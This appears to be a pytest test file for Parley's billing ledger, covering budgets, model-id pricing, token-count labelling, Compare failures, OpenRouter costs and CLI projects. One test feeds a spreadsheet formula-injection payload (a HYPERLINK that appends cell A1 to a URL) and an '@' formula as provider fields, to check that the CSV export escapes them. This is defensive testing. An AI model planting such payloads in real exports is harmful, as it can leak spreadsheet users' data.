"""Issue 14: the bill Parley shows is the bill the user pays, against real HTTP on 127.0.0.1.

Each test is one of the issue's failing inputs, driven through the real
provider backends (the OpenAI-compatible one on httpx, the HF one on
huggingface_hub's InferenceClient) and the real ledger.
"""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from app.core.billing.errors import BudgetExceededError
from app.core.billing.export import export_csv
from app.core.chat.compare import CompareRunner, ComparisonStore
from app.core.chat.projects import ProjectStore
from app.core.llm.contract import ChatMessage
from app.core.llm.targets import Target
from app.core.llm.token_count import count_prompt, count_text
from tests.helpers.fault_server import DROP, Reply, answer, delta
from tests.providers.support import add_provider, new_conversation, run_cli, send

if TYPE_CHECKING:
    from pathlib import Path

    from app.core.context import AppContext
    from tests.helpers.fault_server import FaultServer

HF_MODEL = "mistralai/Mistral-Small-3.2-24B-Instruct-2506"
# What OpenAI's API does: asked for `gpt-4o-mini`, it answers under the dated snapshot.
DATED = "gpt-4o-mini-2024-07-18"


def _answers(fault: FaultServer, n: int, completion: int, model: str = DATED) -> None:
    usage = {"prompt_tokens": 12, "completion_tokens": completion,
             "total_tokens": 12 + completion}  # fmt: skip
    for _ in range(n):
        fault.script(Reply.stream(answer("fine", usage=usage, model=model)))


@pytest.mark.parametrize("priced_as", ["gpt-4o-mini", DATED])
def test_a_hard_budget_holds_whichever_id_the_price_was_set_for(
    ctx: AppContext, fault: FaultServer, priced_as: str
) -> None:
    """Input 1: the pre-flight priced by the requested id, the ledger by the answered one."""
    add_provider(ctx, "proxy", "openai", fault.base_url)
    ctx.ledger.prices.set("proxy", priced_as, 0.15, 0.60)
    ctx.ledger.budgets.set(0.10, "day", hard=True)
    warnings: list[str] = []
    ctx.ledger.on_budget_warning = warnings.append
    target = Target("proxy", "gpt-4o-mini")
    conv = new_conversation(ctx, target)
    ctx.store.set_sampling(conv, replace(ctx.store.get(conv).sampling, max_tokens=20_000))
    _answers(fault, 20, completion=20_000)  # each answer: 20,000 tokens = USD 0.012
    for _ in range(8):  # 8 x 0.012 = 0.096; a 9th could reach 0.108
        send(ctx, conv, "go on", target)
    with pytest.raises(BudgetExceededError, match="daily overall budget"):
        send(ctx, conv, "go on", target)
    assert len(fault.chat_requests()) == 8  # the refused one was never sent
    rows = ctx.ledger.rows()
    assert {r.cost_source for r in rows} == {"priced"}
    assert {(r.model, r.requested_model) for r in rows} == {(DATED, "gpt-4o-mini")}
    status = ctx.ledger.budgets.statuses(ctx.ledger.db.scalar("SELECT max(created_at) FROM usage"))
    assert status[0].spent == pytest.approx(8 * (12 * 0.15 + 20_000 * 0.60) / 1e6)
    assert status[0].fraction <= 1.0
    assert not any("no known price" in w for w in warnings)


def test_hf_pinned_to_a_provider_is_priced_though_the_router_answers_the_bare_id(
    ctx: AppContext, fault: FaultServer
) -> None:
    """Input 1: Parley ships deepinfra's price for this model and still said "no price"."""
    add_provider(ctx, "hf", "hf", fault.base_url)
    ctx.providers.update(replace(ctx.providers.get("hf"), hf_provider="deepinfra"))
    _answers(fault, 1, completion=1000, model=HF_MODEL)
    target = Target("hf", HF_MODEL)
    quote = ctx.chat.quote(None, "hello", target)
    assert quote.amount is not None and quote.price is not None  # the pre-flight can cap it
    send(ctx, new_conversation(ctx, target), "hello", target)
    assert json.loads(fault.chat_requests()[0].body)["model"] == f"{HF_MODEL}:deepinfra"
    [row] = ctx.ledger.rows()
    assert row.cost_source == "priced"
    assert (row.price_input, row.price_output) == (0.075, 0.20)
    assert row.price_source == "https://deepinfra.com/mistralai/Mistral-Small-3.2-24B-Instruct-2506"
    assert row.price_date == "2026-11-01"
    assert row.requested_model == f"{HF_MODEL}:deepinfra"
    assert row.cost == pytest.approx((12 * 0.075 + 1000 * 0.20) / 1e6)


def test_a_project_names_the_hf_organisation_that_pays(ctx: AppContext, fault: FaultServer) -> None:
    """Projects may bill an HF organisation: the X-HF-Bill-To header, and the project's rows."""
    add_provider(ctx, "hf", "hf", fault.base_url, key="hf_parley_test_token_1234")
    ProjectStore(ctx.db).set_bill_to("acme", "acme-org")
    target = Target("hf", HF_MODEL)
    conv = new_conversation(ctx, target)
    ctx.store.set_project(conv, "acme")
    _answers(fault, 1, completion=10, model=HF_MODEL)
    send(ctx, conv, "hello", target)
    headers = {k.lower(): v for k, v in fault.chat_requests()[0].headers.items()}
    assert headers.get("x-hf-bill-to") == "acme-org"
    assert ctx.ledger.rows()[0].project == "acme"


@pytest.mark.parametrize(("model", "source"), [("gpt-4o-mini", "estimated"),
                                               ("mistral-small-2506", "counted")])
def test_tokens_without_usage_say_whether_they_were_counted_or_estimated(
    ctx: AppContext, fault: FaultServer, tmp_path: Path, model: str, source: str
) -> None:
    """Input 3: a regex estimate was shown and exported exactly like llama.cpp's count."""
    add_provider(ctx, "proxy", "openai", fault.base_url)
    text = "Grüße aus Köln! Tokenizers split words like 'antidisestablishmentarianism'."
    fault.script(Reply.stream(answer(text, usage=None, model=model)))
    target = Target("proxy", model)
    conv = new_conversation(ctx, target)
    turn = send(ctx, conv, "Say hello", target)
    assert str(turn.result.usage.source) == source
    expected, how = count_text(text, model)
    assert (turn.result.usage.completion_tokens, str(how)) == (expected, source)
    prompt, _ = count_prompt([ChatMessage("user", "Say hello")], model)
    assert turn.result.usage.prompt_tokens == prompt
    assert ctx.store.messages(conv)[-1].token_source == source  # the chat footer
    assert ctx.ledger.rows()[0].token_source == source  # the Billing table
    export_csv(ctx.db, tmp_path / "u.csv")
    with (tmp_path / "u.csv").open(newline="", encoding="utf-8") as f:
        assert next(csv.DictReader(f))["token_source"] == source  # the CSV
    code, out, _err = run_cli(["usage", "--json"])
    assert code == 0 and json.loads(out)[0]["token_source"] == source  # usage --json


def test_a_failed_compare_column_bills_the_prompt_it_sent_and_the_text_it_wrote(
    ctx: AppContext, fault: FaultServer
) -> None:
    """Input 4: failed Compare columns recorded 0 prompt tokens and chunks as tokens."""
    add_provider(ctx, "proxy", "openai", fault.base_url)
    parts = ["Partial answers ", "still cost ", "money."]
    fault.script(Reply.stream(*[delta(p, "gpt-4o-mini") for p in parts], DROP))
    runner = CompareRunner(ctx.exchanges, ComparisonStore(ctx.db))
    comparison = runner.run("A long question " * 40, [Target("proxy", "gpt-4o-mini")])
    column = comparison.columns[0]
    assert column.outcome == "error"
    sent = [ChatMessage("user", "A long question " * 40)]
    assert column.prompt_tokens == count_prompt(sent, "gpt-4o-mini")[0] > 100
    assert column.completion_tokens == count_text("".join(parts), "gpt-4o-mini")[0]
    assert column.token_source == "estimated"


def test_openrouter_reported_cost_is_what_the_row_costs(
    ctx: AppContext, fault: FaultServer
) -> None:
    """Input 8: OpenRouter's `usage.cost` was ignored."""
    add_provider(ctx, "openrouter", "openai", fault.base_url)
    usage = {"prompt_tokens": 40, "completion_tokens": 2, "total_tokens": 42, "cost": 0.0123}
    fault.script(Reply.stream(answer("Hi", usage=usage, model="openai/gpt-4o-mini")))  # type: ignore[arg-type]
    target = Target("openrouter", "openai/gpt-4o-mini")
    send(ctx, new_conversation(ctx, target), "hello", target)
    [row] = ctx.ledger.rows()
    assert (row.cost, row.currency, row.cost_source) == (0.0123, "USD", "reported")


def test_formula_names_from_a_provider_are_exported_as_text(
    ctx: AppContext, fault: FaultServer, tmp_path: Path
) -> None:
    """Input 7: a model named `=HYPERLINK(...)` and an `@` request id became live formulas."""
    evil = '=HYPERLINK("http://127.0.0.1:1/x?"&A1,"open")'
    add_provider(ctx, "proxy", "openai", fault.base_url)
    steps = answer("ok", usage={"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
                   model=evil)  # fmt: skip
    fault.script(Reply(200, {"Content-Type": "text/event-stream", "x-request-id": "@SUM(1,2)"},
                       None, steps))  # fmt: skip
    target = Target("proxy", "m")
    send(ctx, new_conversation(ctx, target), "hello", target)
    out = tmp_path / "u.csv"
    export_csv(ctx.db, out)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    header, row = rows[0], rows[1]
    assert len(row) == len(header)
    cell = dict(zip(header, row, strict=True))
    assert cell["model"] == "'" + evil
    assert cell["request_id"] == "'@SUM(1,2)"
    assert not [v for v in cell.values() if v and v[0] in "=+-@\t\r"]


def test_chat_cli_puts_a_conversation_in_a_project(ctx: AppContext, fault: FaultServer) -> None:
    """Input 2: nothing in the CLI put a conversation in a project."""
    add_provider(ctx, "proxy", "openai", fault.base_url)
    ctx.ledger.prices.set("proxy", "m", 1.0, 1.0)
    _answers(fault, 3, completion=10, model="m")
    code, out, err = run_cli(["chat", "--json", "--backend", "proxy", "--model", "m",
                              "--project", "acme", "hello"])  # fmt: skip
    assert code == 0, err
    first = json.loads(out)
    assert first["project"] == "acme"
    code, _, err = run_cli(["chat", "--backend", "proxy", "--model", "m", "other"])
    assert code == 0, err
    other = max(c.id for c in ctx.store.list())
    assert run_cli(["conversations", "set-project", str(other), "acme-2"])[0] == 0
    assert ctx.store.get(other).project == "acme-2"
    code, out, _ = run_cli(["usage", "--json", "--project", "acme"])
    assert code == 0
    assert [r["conversation_id"] for r in json.loads(out)] == [first["conversation_id"]]
    # Project budgets are enforced on the conversation's project.
    run_cli(["budget", "set", "--amount", "0.00001", "--period", "day", "--project", "acme",
             "--hard"])  # fmt: skip
    code, _, err = run_cli(["chat", "--conversation", str(first["conversation_id"]),
                            "--backend", "proxy", "--model", "m", "again"])  # fmt: skip
    assert code == 1 and "project acme budget" in err
    code, _, err = run_cli(["chat", "--conversation", str(other), "--backend", "proxy",
                            "--model", "m", "fine"])  # fmt: skip
    assert code == 0, err
